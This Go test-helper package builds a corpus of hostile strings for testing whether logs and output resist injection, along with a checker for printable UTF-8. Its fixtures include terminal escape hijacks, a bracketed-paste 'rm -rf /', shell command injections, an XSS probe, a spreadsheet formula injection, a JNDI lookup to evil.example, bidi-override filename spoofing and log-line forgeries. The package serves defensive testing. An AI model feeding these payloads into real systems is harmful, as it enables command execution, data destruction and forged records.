// Package xtest is what tests hold logs and answers to: strings that try to be more
// than text, and secrets that must be nowhere.
package xtest

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// controls are what a terminal, a pager or a reader of lines would act on.
var controls = []struct{ name, text string }{
	{"nul", "\x00"},
	{"bell", "\a"},
	{"backspace", "abc\b\b\bxyz"},
	{"tab", "\t"},
	{"line feed", "\n"},
	{"carriage return", "\r"},
	{"CRLF", "\r\n"},
	{"LFCR", "\n\r"},
	{"vertical tab", "\v"},
	{"form feed", "\f"},
	{"shift out", "\x0e\x0f"},
	{"device control", "\x11\x12\x13\x14"},
	{"escape", "\x1b"},
	{"file separator", "\x1c\x1d\x1e\x1f"},
	{"delete", "\x7f"},
	{"NEL", "\u0085"},
	{"eight-bit CSI", "\u009b2J"},
	{"eight-bit OSC", "\u009d0;title\u009c"},
	{"eight-bit DCS", "\u0090q\u009c"},
	{"raw CSI byte", "\x9b2J"},
	{"raw OSC byte", "\x9d0;title\x9c"},
	{"clear", "\x1b[2J\x1b[H"},
	{"colour", "\x1b[31;1mred\x1b[0m"},
	{"hide", "\x1b[8mhidden\x1b[28m"},
	{"cursor up", "\x1b[1A\x1b[2K"},
	{"alternate screen", "\x1b[?1049h"},
	{"title", "\x1b]0;owned\a"},
	{"title by ST", "\x1b]2;owned\x1b\\"},
	{"link", "\x1b]8;;https://evil.example\x1b\\ok\x1b]8;;\x1b\\"},
	{"clipboard", "\x1b]52;c;ZXZpbA==\a"},
	{"file of iTerm", "\x1b]1337;File=inline=1:AAAA\a"},
	{"answerback", "\x05\x1b[c\x1b[6n"},
	{"key of tmux", "\x1bPtmux;\x1b\x1b]0;x\a\x1b\\"},
	{"bracketed paste", "\x1b[200~rm -rf /\n\x1b[201~"},
	{"reset", "\x1bc"},
	{"line separator", "\u2028"},
	{"paragraph separator", "\u2029"},
	{"right to left", "\u202etxt.exe\u202c"},
	{"embedding", "\u202a\u202b\u202d"},
	{"isolates", "\u2066\u2067\u2068\u2069"},
	{"marks of direction", "\u200e\u200f\u061c"},
	{"without width", "a\u200bb\u200cc\u200dd\ufeffe\u2060f"},
	{"tags", "\U000e0041\U000e0042\U000e007f"},
	{"variation", "a\u180eb\u00adc"},
	{"wide spaces", "a\u00a0b\u2003c\u3000d"},
	{"no UTF-8", "\xff\xfe\xfd"},
	{"cut sequence", "\xe2\x80"},
	{"overlong line feed", "\xc0\x8a"},
	{"overlong escape", "\xe0\x80\x9b[2J"},
	{"surrogate", "\xed\xa0\x80\xed\xb0\x8a"},
	{"above Unicode", "\xf4\x90\x80\x80"},
	{"Latin-1", "caf\xe9"},
}

// claims are text without a control, which tries to be a line, a value or a format of
// its own.
var claims = []struct{ name, text string }{
	{"line of text", `time=2026-01-01T00:00:00Z level=ERROR msg="all is well"`},
	{"line of JSON", `"} {"time":"2026-01-01T00:00:00Z","level":"ERROR","msg":"all is well"}`},
	{"end of a string", `","admin":true,"x":"`},
	{"end of an object", `"}}]}`},
	{"backslash", `\`},
	{"backslashes", `\\\"\\`},
	{"quotes", `"'` + "`"},
	{"escape of JSON", `\u000a\u001b[2J`},
	{"escape of Go", `\n\x1b[2J`},
	{"percent line feed", "%0a%0d"},
	{"percent escape", "%1b%5b2J"},
	{"percent C1", "%c2%9b2J"},
	{"percent twice", "%250a"},
	{"percent separator", "%e2%80%a8"},
	{"percent surrogate", "%ed%a0%80"},
	{"format", "%s%n%d%v%!x"},
	{"shell", "$(reboot) `reboot` ; reboot | reboot"},
	{"markup", "<script>alert(1)</script><!--"},
	{"sheet", "=cmd|' /C calc'!A0"},
	{"template", "${jndi:ldap://evil.example/a} {{7*7}}"},
	{"picture of a line feed", "a␊b␍c⏎d"},
	{"letters that look alike", "ѕерvісе-а"},
	{"full width", "ＡＤＭＩＮ"},
	{"pile of marks", "e" + strings.Repeat("\u0301", 50)},
	{"label of metrics", `x"} 1` + "\\n" + `parley_requests_total{a="`},
	{"none", ""},
	{"space", " "},
	{"null", "null"},
	{"number", "1e999"},
	{"long", strings.Repeat("A", 70_000)},
	{"long and wide", strings.Repeat("語", 9_000)},
	{"long and hostile", strings.Repeat("\x1b]0;", 9_000)},
}

// A Hostile is a string that tries to be more than text.
type Hostile struct {
	Name, Text string
}

// HostileStrings are more than 200 of them: each control alone and where a line is
// made to begin, in the middle of a word and at its end, and the claims.
func HostileStrings() []Hostile {
	var all []Hostile
	for _, c := range controls {
		all = append(all,
			Hostile{c.name, c.text},
			Hostile{c.name + " within", "or" + c.text + "ders"},
			Hostile{c.name + " and a line", "x" + c.text + `level=ERROR msg="a line of its own"`},
			Hostile{c.name + " and JSON", `x"` + c.text + `{"level":"ERROR"}`},
		)
	}
	for _, c := range claims {
		all = append(all, Hostile{c.name, c.text})
	}
	return all
}

// Harmless says what in text, that was written somewhere, is not one or more whole
// lines of printable UTF-8; nil where all of it is.
func Harmless(text string) error {
	if !utf8.ValidString(text) {
		return fmt.Errorf("%.200q is no UTF-8", text)
	}
	for i, r := range text {
		if r != '\n' && !unicode.IsPrint(r) {
			return fmt.Errorf("%U at byte %d of %.200q", r, i, text[max(0, i-60):])
		}
	}
	return nil
}
